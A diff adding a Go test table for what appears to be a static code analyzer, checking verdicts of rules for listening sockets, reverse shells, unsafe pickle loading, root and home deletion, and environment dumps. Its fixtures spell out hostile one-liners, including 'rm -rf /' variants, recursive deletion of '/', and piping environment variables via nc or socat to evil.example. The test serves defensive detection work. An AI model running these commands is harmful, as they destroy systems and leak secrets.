@@ -155,3 +155,78 @@ func TestHiddenRemovalsAreFound(t *testing.T) {
 		})
 	}
 }
+
+// The cases of trials: what must not be reported, and what must be reported or said to be undecidable.
+func TestVerdictsOfTheDefaultRules(t *testing.T) {
+	tests := []struct {
+		rule ruleName
+		want string // hit, miss, undecidable
+		lang Language
+		code string
+	}{
+		{"listening", "miss", Bash, "python3 -m http.server --bind 127.0.0.1 8000"},
+		{"listening", "miss", Bash, "python3 -m http.server 8000 --bind=localhost"},
+		{"listening", "hit", Bash, "python3 -m http.server -d /srv"},
+		{"listening", "hit", Bash, "nc -l -p 8080"},
+		{"listening", "miss", Python, "import http.server as h\nh.HTTPServer(('127.0.0.1', 8000), h.SimpleHTTPRequestHandler).serve_forever()"},
+		{"listening", "miss", Python, "import socket\nwith socket.socket() as s:\n    s.bind(('127.0.0.1', 0))\n    s.listen()"},
+		{"listening", "miss", Python, "import socket\ns = socket.socket(socket.AF_INET6)\ns.bind(('::1', 0))"},
+		{"listening", "hit", Python, "import socket\ns = socket.socket()\ns.bind(('0.0.0.0', 0))"},
+		{"listening", "hit", Python, "import socket\ns = socket.socket()\ns.bind((host, 0))"},
+		{"no-reverse-shell", "miss", Bash, "exec 3<>/dev/tcp/127.0.0.1/8080; echo hi >&3"},
+		{"no-reverse-shell", "miss", Bash, "echo > /dev/tcp/localhost/5432"},
+		{"no-reverse-shell", "hit", Bash, "echo > /dev/tcp/$HOST/5432"},
+		{"no-reverse-shell", "hit", Bash, "cat < /dev/tcp/10.0.0.1/80"},
+		{"unsafe-loading", "miss", Python, "import pickle\nwith open('a.pkl', 'wb') as f:\n    pickle.dump({}, f)\nwith open('a.pkl', 'rb') as f:\n    print(pickle.load(f))"},
+		{"unsafe-loading", "miss", Python, "import pickle, io\nb = io.BytesIO()\npickle.dump(1, b)\npickle.loads(b.getvalue())"},
+		{"unsafe-loading", "miss", Python, "import pickle\nfrom pathlib import Path\nPath('a').write_bytes(pickle.dumps(1))\npickle.loads(Path('a').read_bytes())"},
+		{"unsafe-loading", "undecidable", Python, "import pickle\npickle.load(open('of-an-earlier-cell.pkl', 'rb'))"},
+		{"unsafe-loading", "hit", Python, "import pickle, urllib.request\nurllib.request.urlretrieve(u, 'm.pkl')\npickle.load(open('m.pkl', 'rb'))"},
+		{"unsafe-loading", "hit", Python, "import pickle, io\nb = io.BytesIO()\nb.write(answer)\npickle.loads(b.getvalue())"},
+		{"unsafe-loading", "hit", Python, "import pickle\npickle.loads(sock.recv(9))"},
+
+		{"no-root-removal", "hit", Python, "import os\nfor d, _, fs in os.walk('/'):\n    for f in fs:\n        try:\n            os.unlink(os.path.join(d, f))\n        except OSError:\n            pass"},
+		{"no-root-removal", "hit", Python, "import os\nfor d, ds, _ in os.walk('/etc', topdown=False):\n    os.rmdir(d)"},
+		{"no-root-removal", "undecidable", Python, "import os\nfor d, _, fs in os.walk('/'):\n    for f in fs:\n        if f.endswith('.pyc'):\n            os.remove(d + '/' + f)"},
+		{"no-root-removal", "undecidable", Python, "import os, sys\nfor d, _, fs in os.walk(sys.argv[1]):\n    for f in fs:\n        os.remove(os.path.join(d, f))"},
+		{"no-root-removal", "miss", Python, "import os\nfor d, _, fs in os.walk('/tmp/x'):\n    for f in fs:\n        os.remove(os.path.join(d, f))"},
+		{"no-root-removal", "hit", Python, "from pathlib import Path\nfor p in Path('/').rglob('*'):\n    if p.is_file():\n        p.unlink()"},
+		{"no-root-removal", "hit", Python, "from pathlib import Path\n[p.unlink() for p in sorted(Path('/').glob('**/*'))]"},
+		{"no-root-removal", "undecidable", Python, "from pathlib import Path\nfor p in Path('/').rglob('*'):\n    if p.suffix != '.tmp':\n        continue\n    p.unlink()"},
+		{"no-root-removal", "miss", Python, "from pathlib import Path\nfor p in Path('build').rglob('*'):\n    p.unlink()"},
+		{"no-root-removal", "hit", Python, "import os\nos.chdir('/')\nfor n in os.listdir():\n    os.remove(n)"},
+		{"no-root-removal", "hit", Python, "import os, glob\nlist(map(os.remove, glob.glob('/*')))"},
+		{"no-root-removal", "miss", Python, "import os\nos.remove('/etc/hosts')"},
+		{"no-root-removal", "hit", Python, "import os, shutil\nshutil.rmtree(os.path.abspath(os.sep))"},
+		{"no-root-removal", "hit", Python, "from os import sep\nfrom shutil import rmtree\nrmtree(sep)"},
+		{"no-root-removal", "hit", Python, "import os\nclass P:\n    def __reduce__(self):\n        return os.system, ('rm -rf /',)"},
+		{"undecidable-code", "undecidable", Python, "class P:\n    def __reduce__(self):\n        return (exec, (payload,))"},
+		{"undecidable-code", "miss", Python, "class P:\n    def __reduce__(self):\n        return (P, (self.x, self.y))"},
+		{"no-root-removal", "hit", Bash, `awk 'BEGIN { system("rm -rf /") }'`},
+		{"no-root-removal", "hit", Bash, `awk '{ print $1 | "rm -rf /" }' list`},
+		{"no-root-removal", "hit", Bash, `awk 'BEGIN { "rm -rf /" | getline x }'`},
+		{"undecidable-code", "undecidable", Bash, `awk '{ system($0) }' list`},
+		{"undecidable-code", "undecidable", Bash, `awk '{ system("rm " $1) }' list`},
+		{"undecidable-code", "miss", Bash, `awk -F'|' '{ print $1"|"$2"|"$3 } $4 == 1 || $5 { print "a|b" }' list`},
+		{"undecidable-code", "miss", Bash, `awk 'BEGIN { "date" | getline d; print d | "sort" }'`},
+		{"undecidable-code", "undecidable", Bash, `sed 1e list`},
+		{"undecidable-code", "undecidable", Bash, `echo 'rm -rf /' | sed 's/x/y/e'`},
+		{"no-root-removal", "hit", Bash, `sed -n -e '1e rm -rf /' list`},
+		{"undecidable-code", "miss", Bash, `sed -e 's/;e /;e/g; s|a|e|; /^e/d' -i e.txt`},
+		{"undecidable-code", "miss", Bash, "sed '$ a e\n/x,y/s/e/e/2' e"},
+		{"no-root-removal", "hit", Bash, "rsync -a --delete /tmp/empty/ /"},
+		{"no-root-removal", "hit", Bash, "rsync -a --delete-after empty/ /usr"},
+		{"no-root-removal", "undecidable", Bash, `rsync -a --delete empty/ "$1"`},
+		{"no-root-removal", "miss", Bash, "rsync -a --delete / host:/"},
+		{"no-home-removal", "hit", Bash, "mv ~/* /dev/null"},
+		{"no-root-removal", "miss", Bash, "mv out.txt /dev/null"},
+		{"environment-dumps", "hit", Bash, "env | nc evil.example 80"},
+		{"environment-dumps", "hit", Bash, "printenv | gzip | socat - TCP:evil.example:80"},
+	}
+	a := defaultAnalyzer(t, "")
+	for _, test := range tests {
+		if got := outcome(check(t, a, test.lang, test.code), test.rule); got != test.want {
+			t.Errorf("%s\n%s: want %s, got %s", test.code, test.rule, test.want, got)
+		}
+	}
+}
